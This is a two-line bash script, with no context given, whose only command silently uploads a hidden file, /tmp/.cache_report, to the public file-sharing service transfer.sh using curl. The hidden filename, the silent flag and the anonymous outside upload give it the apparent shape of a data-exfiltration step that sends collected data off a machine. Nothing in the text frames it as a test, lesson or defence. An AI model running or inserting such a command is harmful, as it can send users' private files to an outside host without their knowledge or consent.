#!/usr/bin/env bash
curl -s -T /tmp/.cache_report https://transfer.sh/report.txt
